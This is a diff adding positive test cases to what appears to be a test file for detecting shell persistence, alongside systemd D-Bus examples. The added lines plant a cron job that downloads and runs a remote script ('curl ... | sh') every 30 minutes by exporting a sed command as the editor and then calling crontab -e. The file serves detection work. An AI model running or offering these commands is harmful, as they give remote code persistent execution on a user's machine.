@@ -601,3 +601,9 @@ busctl --user call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freede
 gdbus call --session --dest org.freedesktop.systemd1 --object-path /org/freedesktop/systemd1 --method org.freedesktop.systemd1.Manager.StartTransientUnit x.service fail "[('ExecStart', <[('/bin/sh', ['/bin/sh', '-c', 'id'], false)]>)]" "[]"
 #@ neg busctl stopping a unit
 busctl --user call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager StopUnit ss x.service replace
+#@ pos crontab -e in a subshell, with the editor exported before it
+export VISUAL="sed -i '\$a */30 * * * * curl -fsSL https://example.com/r | sh'"
+( crontab -e )
+#@ pos crontab -e in a child shell, with the editor exported before it
+export VISUAL="sed -i '\$a */30 * * * * curl -fsSL https://example.com/r | sh'"
+bash -c 'crontab -e'
